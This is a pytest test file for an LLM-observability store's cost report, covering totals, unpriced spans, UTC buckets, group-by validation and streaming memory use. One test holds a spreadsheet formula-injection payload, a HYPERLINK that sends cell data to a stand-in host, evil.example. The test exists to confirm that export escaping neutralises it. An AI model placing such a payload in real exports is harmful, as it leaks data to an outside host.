"""The cost report: totals against plain SQL, unpriced spans, UTC buckets, streaming memory."""

from __future__ import annotations

import csv
import io
import time
import tracemalloc
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import text

from llmobs_store.export.cost_report import (
    cost_report_columns,
    iter_cost_rows,
    parse_group_by,
    stream_cost_csv,
)
from llmobs_store.store import Store
from seed_data import load_demo
from tests.factories import make_span

DEMO_END = datetime(2026, 1, 3, tzinfo=UTC)


def _report(store: Store, group_by: str, **kw: Any) -> list[dict[str, Any]]:
    columns = cost_report_columns(group_by)
    with store.connect() as conn:
        return [
            dict(zip(columns, row, strict=True)) for row in iter_cost_rows(conn, group_by, **kw)
        ]


def _at(moment: datetime, **columns: Any) -> Any:
    offset_ms = (moment - datetime(2026, 1, 1, 12, tzinfo=UTC)).total_seconds() * 1000
    columns.setdefault("span_type", "llm")
    return make_span(offset_ms=offset_ms, **columns)


def test_totals_equal_the_sums_in_the_database(store: Store) -> None:
    load_demo(store, num_traces=150, days=2, seed=7, end=DEMO_END)
    rows = _report(store, "model,day,tenant")
    assert len(rows) > 5
    with store.connect() as conn:
        expected = {
            row[0]: row[1:]
            for row in conn.execute(
                text(
                    "SELECT model, count(*), sum(CASE WHEN status = 'error' THEN 1 ELSE 0 END),"
                    " sum(input_tokens), sum(output_tokens), sum(cache_read_tokens),"
                    " sum(cache_write_tokens), sum(reasoning_tokens), sum(cost_usd),"
                    " sum(CASE WHEN cost_usd IS NULL AND (input_tokens IS NOT NULL"
                    "   OR output_tokens IS NOT NULL) THEN 1 ELSE 0 END), count(cost_usd)"
                    " FROM spans WHERE span_type = 'llm' GROUP BY model"
                )
            )
        }
    measures = ["requests", "errors", "input_tokens", "output_tokens", "cache_read_tokens"]
    measures += ["cache_write_tokens", "reasoning_tokens", "cost_usd", "unpriced"]
    for model, sums in expected.items():
        group = [row for row in rows if row["model"] == model]
        for i, name in enumerate(measures):
            total = sum(row[name] or 0 for row in group)
            assert total == pytest.approx(float(sums[i] or 0), rel=1e-9), (model, name)
        priced = sum(round(row["price_coverage"] * row["requests"]) for row in group)
        assert priced == sums[-1]
    assert {row["day"] for row in rows} <= {date(2026, 1, d) for d in (1, 2, 3)}


def test_unpriced_spans_are_counted_and_lower_the_coverage(store: Store) -> None:
    noon = datetime(2026, 1, 1, 12, tzinfo=UTC)
    store.write(
        [
            _at(noon, model="m", input_tokens=100, output_tokens=10, cost_usd=0.25),
            _at(noon, model="m", input_tokens=7, cost_usd=None),
            _at(noon, model="m", cost_usd=None, status="error"),  # no tokens: not unpriced
            _at(noon, model="m", span_type="tool", input_tokens=5),  # not an LLM span
        ]
    )
    (row,) = _report(store, "model")
    assert row == {
        "model": "m",
        "requests": 3,
        "errors": 1,
        "input_tokens": 107,
        "output_tokens": 10,
        "cache_read_tokens": 0,
        "cache_write_tokens": 0,
        "reasoning_tokens": 0,
        "cost_usd": 0.25,
        "unpriced": 1,
        "price_coverage": 0.3333,
    }


def test_a_group_with_no_priced_span_has_no_cost(store: Store) -> None:
    store.write([_at(datetime(2026, 1, 1, tzinfo=UTC), model="x", input_tokens=3)])
    (row,) = _report(store, "model")
    assert (row["cost_usd"], row["unpriced"], row["price_coverage"]) == (None, 1, 0.0)


def test_day_and_week_buckets_are_utc_across_midnight(store: Store) -> None:
    # 2026-01-04 is a Sunday: the last instant of the week, then Monday's first.
    sunday_late = datetime(2026, 1, 4, 23, 59, 59, 999_000, tzinfo=UTC)
    monday = datetime(2026, 1, 5, tzinfo=UTC)
    store.write(
        [
            _at(sunday_late, model="m", cost_usd=1.0),
            _at(monday, model="m", cost_usd=2.0),
            _at(monday + timedelta(hours=23), model="m", cost_usd=4.0),
        ]
    )
    days = [(r["day"], r["requests"], r["cost_usd"]) for r in _report(store, "day")]
    assert days == [(date(2026, 1, 4), 1, 1.0), (date(2026, 1, 5), 2, 6.0)]
    weeks = [(r["week"], r["cost_usd"]) for r in _report(store, "week,model")]
    assert weeks == [(date(2025, 12, 29), 1.0), (date(2026, 1, 5), 6.0)]


def test_since_until_is_half_open(store: Store) -> None:
    day = datetime(2026, 1, 2, tzinfo=UTC)
    store.write([_at(day - timedelta(microseconds=1)), _at(day), _at(day + timedelta(days=1))])
    rows = _report(store, "day", since=day, until=day + timedelta(days=1))
    assert [(r["day"], r["requests"]) for r in rows] == [(date(2026, 1, 2), 1)]


def test_metadata_keys_and_user_are_dimensions(store: Store) -> None:
    noon = datetime(2026, 1, 1, 12, tzinfo=UTC)
    store.write(
        [
            _at(noon, user_id="u1", metadata={"tenant": "acme", "feature": "chat"}),
            _at(noon, user_id="u1", metadata={"tenant": "acme"}),
            _at(noon, user_id="u2", metadata={"tenant": "globex"}),
            _at(noon, user_id="u2"),
        ]
    )
    got = [(r["tenant"], r["user"], r["requests"]) for r in _report(store, "tenant,user")]
    assert got == [("acme", "u1", 2), ("globex", "u2", 1), (None, "u2", 1)]
    features = [(r["feature"], r["requests"]) for r in _report(store, "feature")]
    assert features == [("chat", 1), (None, 3)]


def test_formula_cells_are_neutralised_in_the_csv(store: Store) -> None:
    evil_user = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    store.write([_at(datetime(2026, 1, 1, tzinfo=UTC), model="-cmd", user_id=evil_user)])
    data = b"".join(stream_cost_csv(store, "model,user"))
    header, row = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert header[:3] == ["model", "user", "requests"]
    assert row[:3] == ["'-cmd", "'" + evil_user, "1"]
    assert data.endswith(b"\r\n")


@pytest.mark.parametrize("group_by", ["", "day,week", "model,model", "requests", "a b", "x" * 65])
def test_bad_group_by_is_refused(group_by: str) -> None:
    with pytest.raises(ValueError):
        parse_group_by(group_by)


def _fill_spans(store: Store, num_rows: int) -> None:
    """``num_rows`` LLM spans in one INSERT … SELECT, each with its own user (one group each)."""
    if store.dialect_name == "duckdb":
        numbers = "range(:n) AS r(i)"
        start = "TIMESTAMPTZ '2026-01-01 00:00:00+00' + i * INTERVAL 1 SECOND"
        hex_id = "lpad(printf('%x', i), {width}, '0')"
        attrs = "'{}'"
    else:
        numbers = "generate_series(0, :n - 1) AS r(i)"
        start = "TIMESTAMPTZ '2026-01-01 00:00:00+00' + i * INTERVAL '1 second'"
        hex_id = "lpad(to_hex(i), {width}, '0')"
        attrs = "'{}'::jsonb"
    sql = (
        "INSERT INTO spans (trace_id, span_id, name, kind, span_type, status, start_time,"
        " end_time, duration_ms, model, user_id, input_tokens, output_tokens, cost_usd,"
        f" attributes) SELECT {hex_id.format(width=32)}, {hex_id.format(width=16)}, 'chat',"
        f" 'client', 'llm', 'ok', {start}, {start}, 1.0, 'gpt-4o-mini', 'user-' || i,"
        f" 100, 20, 0.0001, {attrs} FROM {numbers}"
    )
    with store.engine.begin() as conn:
        conn.execute(text(sql), {"n": num_rows})


@pytest.mark.parametrize("num_rows", [200_000, pytest.param(1_000_000, marks=pytest.mark.slow)])
def test_a_big_export_runs_in_flat_memory(store: Store, num_rows: int) -> None:
    if num_rows >= 1_000_000 and store.dialect_name != "duckdb":
        pytest.skip("the million rows run on DuckDB; PostgreSQL shares the path at 200k")
    _fill_spans(store, num_rows)
    tracemalloc.start()
    try:
        started = time.perf_counter()
        num_bytes = num_lines = 0
        for chunk in stream_cost_csv(store, "user"):
            num_bytes += len(chunk)
            num_lines += chunk.count(b"\r\n")
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert num_lines == num_rows + 1
    # ~43 bytes a row: 8.5 MB of CSV at 200k rows, 43 MB at 1M. The Python heap holds one
    # fetch of rows and one chunk of text (~1.8 MB measured) whatever the number of rows.
    assert peak < 3 * 2**20, (peak, num_bytes)
    assert peak < num_bytes / (10 if num_rows >= 1_000_000 else 2.5), (peak, num_bytes)
    print(f"{num_rows} rows, {num_bytes} bytes in {elapsed:.1f}s, peak heap {peak} bytes")
